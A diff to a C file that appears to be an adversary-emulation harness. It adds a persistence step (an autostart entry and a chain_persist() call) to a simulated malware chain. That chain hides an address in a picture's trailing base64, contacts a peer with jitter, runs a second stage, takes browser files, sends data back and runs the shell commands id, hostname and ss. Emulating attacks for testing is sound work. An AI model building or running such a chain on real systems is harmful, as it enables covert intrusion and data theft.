@@ -8,7 +8,8 @@
  * before its first step; here every wait is scaled to about a second.
  *
  *   open --> [thread] picture with trailing base64 -> address in it -> contacts at a jittered interval
- *                     -> second program, written and run -> browser files -> a few bytes back -> sh: id, hostname, ss
+ *                     -> second program, written and run -> autostart entry -> browser files -> a few bytes back
+ *                     -> sh: id, hostname, ss
  */
 #include "chain.h"
 #include "media.h"
@@ -30,6 +31,7 @@ static void *work(void *unused)
         return NULL;
     chain_contact(&peer, 4);
     chain_second_stage(&peer);
+    chain_persist();
     chain_contact(&peer, 3);
     chain_collect(&peer);
     chain_contact(&peer, 3);
